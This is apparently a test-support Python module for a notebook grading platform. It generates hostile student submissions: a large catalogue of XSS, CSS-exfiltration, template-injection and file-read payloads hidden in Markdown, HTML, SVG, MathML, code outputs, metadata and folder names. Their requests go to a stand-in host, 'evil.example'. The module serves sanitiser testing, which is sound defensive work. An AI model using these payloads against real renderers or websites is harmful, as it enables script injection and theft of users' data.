"""Texts that make a page run, fetch or change something.

A payload proves that it worked: its script calls ``pwned``, its requests go to ``evil.example`` or to
``/pwned-NAME``. In the sources ``«run»`` stands for such a call, ``«url»`` for the foreign address and ``«path»``
for the path on the page's own server.
"""

from __future__ import annotations

import base64
import copy
import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

import yaml

from graders.core.registry import exercises
from tests.support.course import Notebook, cell, released

EVIL = "evil.example"
MARK = "pwned"


@dataclass(frozen=True)
class Payload:
    """A cell that a learner adds, or keys of the notebook's metadata; one of a family, by a name of its own."""

    name: str
    family: str
    source: str
    kind: str = "markdown"
    extra: Mapping[str, Any] = field(default_factory=dict)
    top: Mapping[str, Any] = field(default_factory=dict)

    @property
    def cell(self) -> dict[str, Any]:
        """The cell as a notebook's JSON has it."""
        made: dict[str, Any] = {"cell_type": self.kind, "id": self.name, "metadata": {}, "source": self.source}
        if self.kind == "code":
            made |= {"outputs": [], "execution_count": 1}
        return made | copy.deepcopy(dict(self.extra))


def _armed(value: Any, name: str) -> Any:
    """A source or a part of a notebook with its marks filled in."""
    if isinstance(value, str):
        marks = {"«run»": f"{MARK}(/{name}/)", "«url»": f"http://{EVIL}/{name}", "«path»": f"/{MARK}-{name}"}
        for mark, text in marks.items():
            value = value.replace(mark, text)
        return value
    if isinstance(value, Mapping):
        return {_armed(key, name): _armed(inner, name) for key, inner in value.items()}
    return [_armed(inner, name) for inner in value] if isinstance(value, list) else value


def _data(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="«run»"><script>«run»</script><image href="«url»"/></svg>'
PNG = {"image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}
TICKS = "`" * 3

MARKDOWN = {
    "scheme": {
        "plain": "[x](javascript:«run»)",
        "entity-decimal": "[x](java&#115;cript:«run»)",
        "entity-hex": "[x](java&#x73;cript:«run»)",
        "entity-zeros": "[x](java&#0000115;cript:«run»)",
        "entity-twice": "[x](java&amp;#115;cript:«run»)",
        "entity-name": "[x](javascript&colon;«run»)",
        "entity-tab": "[x](java&Tab;script:«run»)",
        "entity-newline": "[x](java&NewLine;script:«run»)",
        "entity-first": "[x](&#106;avascript:«run»)",
        "control-first": "[x](&#1;javascript:«run»)",
        "backslash": "[x](javascript\\:«run»)",
        "angle": "[x](<javascript:«run»>)",
        "case": "[x](JaVaScRiPt:«run»)",
        "percent": "[x](%6aavascript:«run»)",
        "vbscript": "[x](vb&#115;cript:msgbox)",
        "data-html": f"[x](da&#116;a:text/html;base64,{_data('<script>opener.pwned(1)</script>')})",
        "data-svg": "![x](data:image/svg+xml,%3Csvg%20onload=«run»%20xmlns='http://www.w3.org/2000/svg'/%3E)",
        "file": "[x](file:///etc/passwd)",
        "blob": "[x](blob:http://localhost/«path»)",
        "view-source": "[x](view-source:«url»)",
    },
    "reference": {
        "reference": "[x][a]\n\n[a]: javascript:«run»",
        "reference-entity": "[x][a]\n\n[a]: java&#115;cript:«run»",
        "reference-title": "[x][a]\n\n[a]: /x 'a\" onmouseover=\"«run»'",
        "reference-image": "![x][a]\n\n[a]: «url»",
        "reference-collapsed": "[a][]\n\n[a]: <javascript:«run»>",
        "reference-shortcut": "[a]\n\n[a]:\n  java&#115;cript:«run»",
        "reference-from-elsewhere": "[stolen]: javascript:«run»",
        "footnote": "x[^1]\n\n[^1]: [y](javascript:«run»)",
    },
    "autolink": {
        "auto-script": "<javascript:«run»>",
        "auto-entity": "<java&#115;cript:«run»>",
        "auto-address": "<«url»>",
        "auto-bare": "«url»?a=1",
        "auto-mail": "<x@evil.example>",
        "auto-www": "www.evil.example/x",
        "auto-terminal": "[open](/terminals/1) [x](/lab/api/«path») [y](//evil.example/x)",
    },
    "image": {
        "image-logout": "![](/logout)",
        "image-remote": "![x](«url»)",
        "image-path": "![x](«path»)",
        "image-protocol": "![x](//evil.example/x.png)",
        "image-title": "![x](/x.png 'a\" onerror=\"«run»')",
        "image-alt": '![a" onerror="«run»](/x.png)',
        "image-in-link": "[![x](«url»)](javascript:«run»)",
        "image-files": "![x](files«path»)",
        "link-title": "[x](/x 'a\" onmouseover=\"«run»' )",
        "link-attribute": '[x](/x"onmouseover="«run»)',
    },
    "html": {
        "script": "<script>«run»</script>",
        "script-remote": "<script src=«url»></script>",
        "script-entity": "&lt;script&gt;«run»&lt;/script&gt;",
        "script-entity-decimal": "&#60;script&#62;«run»&#60;/script&#62;",
        "script-module": "<script type=module>import '«url»'</script>",
        "script-split": "<scr<script>ipt>«run»</scr</script>ipt>",
        "script-null": "<scr\x00ipt>«run»</scr\x00ipt>",
        "image-onerror": "<img src=x onerror=«run»>",
        "image-srcset": "<img srcset='«url» 1x, «path» 2x'>",
        "image-unclosed": "<img src=x onerror=«run» x='",
        "image-slash": "<img/src=x/onerror=«run»//",
        "details": "<details open ontoggle=«run»>x</details>",
        "input": "<input autofocus onfocus=«run»>",
        "body": "<body onload=«run»>",
        "marquee": "<marquee onstart=«run»>x</marquee>",
        "animation": "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=«run»>x</b>",
        "anchor-ping": "<a href='#x' ping='«url»'>x</a>",
        "anchor-script": "<a href='javascript:«run»'>x</a>",
        "base": "<base href='http://evil.example/'>",
        "refresh": "<meta http-equiv=refresh content='0;url=«url»'>",
        "refresh-script": "<meta http-equiv=refresh content='0;url=javascript:«run»'>",
        "cookie": "<meta http-equiv=set-cookie content='a=b'>",
        "iframe": "<iframe src='javascript:parent.«run»'></iframe>",
        "iframe-remote": "<iframe src='«url»'></iframe>",
        "iframe-document": "<iframe srcdoc='<script>parent.«run»</script>'></iframe>",
        "object": "<object data='«url»'></object>",
        "embed": "<embed src='«url»'>",
        "form": "<form action='«url»'><button formaction='javascript:«run»'>x</button></form>",
        "form-logout": "<form action=/logout method=get><input type=submit></form>",
        "form-image": "<form id=f></form><input type=image src='«url»' form=f formaction='«path»'>",
        "isindex": "<isindex type=image src=x onerror=«run»>",
        "template": "<template shadowrootmode=open><img src=x onerror=«run»></template>",
        "comment": "<!--><img src=x onerror=«run»>-->",
        "declaration": "<!x><img src=x onerror=«run»>",
        "processing": "<?x ><img src=x onerror=«run»>?>",
        "cdata": "<![CDATA[><img src=x onerror=«run»>]]>",
        "textarea": "</textarea></pre></code></div><img src=x onerror=«run»>",
        "pre-end": "</code></pre><script>«run»</script>",
        "title-end": "</title></style></script><script>«run»</script>",
        "noscript": "<noscript><p title='</noscript><img src=x onerror=«run»>'></noscript>",
        "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */«run» )//%0D%0A</stYle/</titLe/--!>\\x3csVg/<sVg/oNloAd=«run»//>",
    },
    "style": {
        "import": "<style>@import '«url»';</style>",
        "background": "<style>body{background:url(«url»)}</style>",
        "font": "<style>@font-face{font-family:x;src:url(«url»)}*{font-family:x}</style>",
        "cover": "<div style='position:fixed;inset:0;z-index:9;background:url(«path»)'>x</div>",
        "stylesheet": "<link rel=stylesheet href='«url»'>",
        "prefetch": "<link rel=prefetch href='«url»'>",
        "preload": "<link rel=preload as=image href='«path»'>",
        "dns-prefetch": "<link rel=dns-prefetch href='//evil.example'>",
        "preconnect": "<link rel=preconnect href='http://evil.example'>",
        "manifest": "<link rel=manifest href='«url»'><link rel=icon href='«path»'>",
        "set-attribute": "<b style=\"list-style-image:url('«url»');display:list-item\">x</b>",
    },
    "media": {
        "svg": SVG,
        "svg-animate": "<svg><a><animate attributeName=href values='javascript:«run»'/><text y=9>x</text></a></svg>",
        "svg-use": "<svg><use href='«url»#x'/></svg>",
        "svg-foreign": "<svg><foreignObject><img src=x onerror=«run»></foreignObject></svg>",
        "svg-style": "<svg><style><img src=x onerror=«run»></style></svg>",
        "math": "<math><a href='javascript:«run»'>x</a></math>",
        "math-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=«run»>",
        "math-action": "<math><maction actiontype='statusline#«url»' xlink:href='javascript:«run»'>x</maction></math>",
        "video": "<video src='«url»' poster='«path»' onerror=«run»></video>",
        "audio": "<audio autoplay onloadstart=«run»><source src='«url»' onerror=«run»></audio>",
        "picture": "<picture><source srcset='«url»'><img src='«path»'></picture>",
        "track": "<video><track default src='«path»' oncuechange=«run»></video>",
    },
    "fence": {
        "mermaid": f"{TICKS}mermaid\n</pre><img src=x onerror=«run»>\n{TICKS}",
        "mermaid-click": f'{TICKS}mermaid\ngraph TD\nclick A "javascript:«run»"\n{TICKS}',
        "language": f'{TICKS}x"onclick=«run»\ny\n{TICKS}',
        "language-html": f"{TICKS}html\n<script>«run»</script>\n{TICKS}",
        "closed": f"{TICKS}\n\n<script>«run»</script>\n\n{TICKS}",
        "closed-longer": f"{'`' * 9}\n<script>«run»</script>\n{'`' * 10}\n<script>«run»</script>",
        "closed-long": f"{'`' * 4000}\n<script>«run»</script>",
        "closed-indented": f"   {TICKS}\n<script>«run»</script>\n   {TICKS}",
        "closed-tab": f"{TICKS}\t\n<script>«run»</script>\n{TICKS}\t",
        "closed-return": f"x\r{TICKS}\r<script>«run»</script>\r\n{TICKS}\r",
        "closed-separator": f"x\u2028{TICKS}\u2028<script>«run»</script>\u2029{TICKS}\x0c{TICKS}\x0b{TICKS}\x85{TICKS}",
        "tildes": "~~~\n<script>«run»</script>\n~~~",
        "tildes-mixed": f"~~~\n{TICKS}\n~~~\n{TICKS}\n<script>«run»</script>",
        "blank-edges": "\n\n  \n\t\n<script>«run»</script>\n\n\n",
        "in-quote": f"> {TICKS}\n> x\n<script>«run»</script>",
        "in-list": f"- {TICKS}\n\n  x\n\n<script>«run»</script>\n  {TICKS}",
        "indented": "    x\n\n<script>«run»</script>",
        "math-block": "$$\n<img src=x onerror=«run»>\n$$",
        "math-line": "$<img src=x onerror=«run»>$",
        "math-across": f"$$\n{TICKS}\n<img src=x onerror=«run»>\n$$",
        "math-environment": "\\begin{a}\n<img src=x onerror=«run»>\n\\end{a}",
        "math-brackets": "\\\\[<img src=x onerror=«run»>\\\\] \\\\(<img src=x onerror=«run»>\\\\)",
        "math-macro": "$\\require{html}\\href{javascript:«run»}{x}\\style{background:url(«url»)}{x}\\unicode{x}$",
        "table": "|a|\n|-|\n|<img src=x onerror=«run»>|",
        "heading": '# <img src=x onerror=«run»> " onclick="«run»',
        "definition": "a\n: <img src=x onerror=«run»>",
        "task": "- [ ] <img src=x onerror=«run»>",
        "directive": f"{TICKS}{{raw}} html\n<script>«run»</script>\n{TICKS}\n\n:::{{include}} /etc/passwd\n:::\n{{raw}}`<script>`",
        "front-matter": "---\ntitle: <script>«run»</script>\n---\n",
        "template": "{{ cell.metadata }} {% include '/etc/passwd' %} {{ ''.__class__ }} <script>«run»</script>",
        "surrogate": "\ud800<script>«run»</script>\udfff",
        "override": "\u202e<script>«run»</script>\u2066",
        "escape": "\x1b]8;;javascript:«run»\x07x\x1b]8;;\x07<script>«run»</script>",
    },
}
CODE = {
    "magic-javascript": "%%javascript\n«run»",
    "magic-html": "%%html\n<script>«run»</script>",
    "magic-perl": "%%perl\n" + "<script>«run»</script>\n" * 5,
    "magic-latex": "%%latex\n\\href{javascript:«run»}{x}",
    "magic-svg": "%%SVG\n" + SVG,
    "code-end": "</pre></div><script>«run»</script>",
    "code-attribute": '" onmouseover="«run»',
    "code-entity": "&lt;script&gt;«run»&lt;/script&gt; &#60;img src=x onerror=«run»>",
    "code-executes": "from IPython.display import HTML\nHTML('<script>«run»</script>')",
    "code-null": "<\x00script>«run»</script>\x1b[31m",
}
OUTPUTS: dict[str, dict[str, Any]] = {
    "output-html": {"text/html": "<script>«run»</script><img src='«url»'>"},
    "output-isolated": {"text/html": "<script>parent.«run»</script>"},
    "output-script": {"application/javascript": "«run»"},
    "output-markdown": {"text/markdown": "[x](javascript:«run»)<img src=x onerror=«run»>"},
    "output-svg": {"image/svg+xml": SVG},
    "output-latex": {"text/latex": "$\\href{javascript:«run»}{x}$<script>«run»</script>"},
    "output-png": {"image/png": '"onerror="«run»'},
    "output-mermaid": {"text/vnd.mermaid": "</pre><script>«run»</script>"},
    "output-widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>«run»</script>"}},
    "output-plain": {"text/plain": "\x1b]8;;javascript:«run»\x07x\x1b]8;;\x07<script>«run»</script>"},
}
ODD: dict[str, dict[str, Any]] = {
    "raw": {"cell_type": "raw", "source": "<script>«run»</script>"},
    "raw-html": {"cell_type": "raw", "source": "<script>«run»</script>", "metadata": {"raw_mimetype": "text/html"}},
    "raw-any": {"cell_type": "raw", "source": "<img src=x onerror=«run»>", "metadata": {"raw_mimetype": ""}},
    "raw-format": {"cell_type": "raw", "source": "<script>«run»</script>", "metadata": {"format": "text/html"}},
    "unknown-kind": {"cell_type": "html", "source": "<script>«run»</script>"},
    "kind-with-tags": {"cell_type": "<script>«run»</script>", "source": "x"},
    "source-as-list": {"source": ["<scr", "ipt>«run»</script>", 7, None]},
    "tags": {"source": "x", "metadata": {"tags": ['" onclick="«run»', "<script>«run»</script>"]}},
    "id": {"source": "x", "id": '"><script>«run»</script>'},
    "magics-language": {"cell_type": "code", "source": "x", "outputs": [], "execution_count": 1, "metadata": {"magics_language": "</x><script>«run»</script>"}},
    "execution-count": {"cell_type": "code", "source": "x", "outputs": [], "execution_count": "<script>«run»</script>"},
    "slide": {"source": "x", "metadata": {"slideshow": {"slide_type": "<script>«run»</script>"}, "alt": '"onerror="«run»'}},
    "attachment-missing": {"source": "![x](attachment:nothing.png)"},
    "attachment-missing-entity": {"source": "![x](attach&#109;ent:nothing.png) ![x](ATTACHMENT:a)"},
    "attachment-svg": {"source": "![x](attachment:a.svg)", "attachments": {"a.svg": {"image/svg+xml": _data(SVG)}}},
    "attachment-breaks-out": {"source": "![x](attachment:a.png)", "attachments": {"a.png": {"image/png": '"onerror="«run»'}}},
    "attachment-type": {"source": "![x](attachment:a)", "attachments": {"a": {'text/html"onerror="«run»': "x"}}},
    "attachment-png": {"source": "![x](attachment:a.png)", "attachments": {"a.png": PNG}},
    "attachments-odd": {"source": "![x](attachment:a)", "attachments": ["a"]},
    "nbgrader-id": {"source": "x", "metadata": {"nbgrader": {"grade_id": '"><script>«run»</script>', "grade": True, "solution": True, "locked": False, "task": False, "points": 1, "schema_version": 3}}},
    "nbgrader-comment": {"source": "x", "metadata": {"nbgrader": {"comment": "[x](javascript:«run»)<script>«run»</script>", "solution": True, "grade": False, "locked": False, "task": False, "grade_id": "own", "schema_version": 3}}},
}  # fmt: skip
TOP: dict[str, dict[str, Any]] = {
    "title": {"title": "</title><script>«run»</script>"},
    "authors": {"authors": [{"name": "<script>«run»</script>"}]},
    "widgets": {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"</script><script>«run»</script>": {}}}}},
    "lexer": {"language_info": {"name": "<script>«run»</script>", "pygments_lexer": '"><script>«run»</script>'}},
    "lexer-slow": {"language_info": {"name": "ipython", "pygments_lexer": "ipython3"}},
    "kernel": {"kernelspec": {"name": "x", "display_name": "<script>«run»</script>", "language": "AUTOTEST"}},
    "workbook": {"workbook": {"problem": "<script>«run»</script>", "hint": "[x](javascript:«run»)", "digest": "x"}},
    "celltoolbar": {"celltoolbar": "Create Assignment", "toc": {"base_numbering": "<script>«run»</script>"}},
}  # fmt: skip


def _payloads() -> Iterator[Payload]:
    for family, sources in MARKDOWN.items():
        for name, source in sources.items():
            yield Payload(f"{family}-{name}", family, source)
    for name, source in CODE.items():
        yield Payload(name, "code", source, "code")
    for name, data in OUTPUTS.items():
        output = {"output_type": "display_data", "data": data, "metadata": {"text/html": {"isolated": True}, **{kind: {"alt": '"onerror="«run»', "width": '"onerror="«run»'} for kind in data}}}  # fmt: skip
        yield Payload(name, "output", "x", "code", {"outputs": [output]})
    stream = [{"output_type": "stream", "name": "stdout", "text": "<script>«run»</script>"}, {"output_type": "error", "ename": "<script>«run»</script>", "evalue": "x", "traceback": ["<img src=x onerror=«run»>"]}]  # fmt: skip
    yield Payload("output-stream", "output", "x", "code", {"outputs": stream})
    for name, cell_ in ODD.items():
        yield Payload(name, "metadata", "", extra=cell_)
    for name, keys in TOP.items():
        yield Payload(f"notebook-{name}", "metadata", "x", top=keys)


PAYLOADS = {
    made.name: Payload(
        made.name, made.family, _armed(made.source, made.name), made.kind, _armed(made.extra, made.name), _armed(made.top, made.name)
    )
    for made in _payloads()
}  # fmt: skip
"""All payloads that are a cell or a notebook's metadata, by name."""

FAMILIES = tuple(dict.fromkeys(payload.family for payload in PAYLOADS.values()))

WORDS = tuple(
    _armed(text, f"word-{number}")
    for number, text in enumerate(
        (
            "<script>«run»</script>",
            "<img src=x onerror=«run»>",
            "</section></details></style><script>«run»</script>",
            '" onmouseover="«run»" x="',
            "' autofocus onfocus='«run»",
            "[x](javascript:«run»)",
            "[x](java&#115;cript:«run»)",
            "![x](«url»)",
            "![](/logout)",
            "«url»?a=1",
            "<«url»>",
            "![x](attachment:nothing.png)",
            "javascript:«run»",
            "&lt;script&gt;«run»&lt;/script&gt;",
            "&#60;script>«run»&#60;/script>",
            "`<script>«run»</script>`",
            "<svg/onload=«run»>",
            "]]></style><image href='«url»'/>",
            "{{ «run» }}",
            "$$<img src=x onerror=«run»>$$",
        )
    )
)
"""What stands as a key, a value, a name or a label in an answer."""


def answers() -> dict[str, dict[str, str]]:
    """Hostile answers to every exercise: a style, then exercise and text."""
    made: dict[str, dict[str, str]] = {"values": {}, "keys": {}, "problems": {}, "whole": {}, "mistyped": {}}
    for exercise in exercises():
        sample = exercise.sample.path if exercise.sample else None
        written = sample.read_text(encoding="utf-8") if sample else "item: {how: x}"
        words = _endless(WORDS)
        if sample is not None and sample.suffix == ".dot":
            made["values"][exercise.name] = "digraph {" + "; ".join(f"{_quoted(w)} -> api [label={_quoted(w)}]" for w in WORDS) + "}"  # fmt: skip
            made["keys"][exercise.name] = "digraph {" + "; ".join(f"{_quoted(w)} [{_quoted(w)}={_quoted(w)} URL={_quoted(w)} label=<<b>{n}</b>>]" for n, w in enumerate(WORDS)) + "}"  # fmt: skip
            made["problems"][exercise.name] = f"digraph {{ {WORDS[0]} -> "
        else:
            document = yaml.safe_load(written)
            made["values"][exercise.name] = json.dumps(_swapped(document, words, keys=False), default=str)
            made["keys"][exercise.name] = json.dumps(_swapped(document, words, keys=True), default=str)
            made["problems"][exercise.name] = written + f"\n{WORDS[0]}: [ {WORDS[5]}\n\t{WORDS[1]}"
        made["whole"][exercise.name] = "\n".join(WORDS)
        made["mistyped"][exercise.name] = f"%%answer {exercise.name}\n{WORDS[0]}"
    return made


def _endless(words: tuple[str, ...]) -> Iterator[str]:
    while True:
        yield from words


def _swapped(value: Any, words: Iterator[str], *, keys: bool) -> Any:
    if isinstance(value, Mapping):
        return {
            next(words) + str(number) if keys and number % 2 else key: _swapped(inner, words, keys=keys)
            for number, (key, inner) in enumerate(value.items())
        }
    if isinstance(value, list):
        return [_swapped(inner, words, keys=keys) for inner in value]
    return value if keys else next(words)


def _quoted(word: str) -> str:
    return '"' + word.replace("\\", "\\\\").replace('"', '\\"') + '"'


def submissions() -> dict[str, dict[str, Notebook]]:
    """The attackers: student, then section and notebook, one for each family of payloads and each style.

    Unreadable answers are left out, because their cards are alike.
    """
    made: dict[str, dict[str, Notebook]] = {}
    for family in FAMILIES:
        notebook = released()
        for payload in (p for p in PAYLOADS.values() if p.family == family):
            notebook["cells"].append(payload.cell)
            notebook["metadata"] |= payload.top
        made[f"mallory-{family}"] = {"06-hands-on": notebook}
    for way in ("values", "keys", "problems"):
        texts = answers()[way]
        sections: dict[str, Notebook] = {}
        for exercise in exercises():
            notebook = sections.setdefault(exercise.section, released(exercise.section))
            cell(notebook, f"{exercise.name}-answer")["source"] = f"%%answer {exercise.name}\n{texts[exercise.name]}"
        made[f"trudy-{way}"] = sections
    return made


NAMES = (
    f"<img src=x onerror={MARK}(1)>",
    f"<svg onload={MARK}(2)>",
    f"'><script>{MARK}(3)<script>",
    f'" onmouseover="{MARK}(4)" x="',
    f'";{MARK}(5);"',
    "\\",
    f"a\u2028{MARK}(6)",
    f"</title><img src=x onerror={MARK}(7)>".replace("/", "&#47;"),
    f"javascript:{MARK}(8)",
    "{{ cycler.__init__.__globals__ }}",
    "a&b",
    "%3Cimg src=x onerror=pwned(9)%3E",
    "#x",
    "?x",
)
"""Names of folders in which somebody hands in."""
